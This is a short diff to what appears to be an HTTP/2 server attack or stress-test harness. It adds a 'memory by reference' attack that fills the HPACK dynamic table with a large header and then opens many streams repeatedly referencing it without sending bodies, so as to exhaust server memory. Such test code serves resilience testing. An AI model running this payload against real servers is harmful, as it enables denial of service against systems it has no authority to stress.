@@ -150,6 +150,15 @@ def _(a):
         a.send(raw_frame(HEADERS, END_STREAM | END_HEADERS, stream + 2, a.client.block(a.client.fields()) + b"\xbe" * 16000))
 
 
+@attack("memory by reference")
+def _(a):
+    # Fifteen references to one large field in each head, and a body that does not come: what they stand for is held.
+    block = a.client.block(a.client.fields("POST")) + b"\x40\x01b\x7f\xa1\x1e" + b"x" * 4000
+    a.send(raw_frame(HEADERS, END_HEADERS, 1, block))
+    for stream in streams():
+        a.send(raw_frame(HEADERS, END_HEADERS, stream + 2, a.client.block(a.client.fields("POST")) + b"\xbe" * 15))
+
+
 @attack("flood of table sizes")
 def _(a):
     for stream in streams():
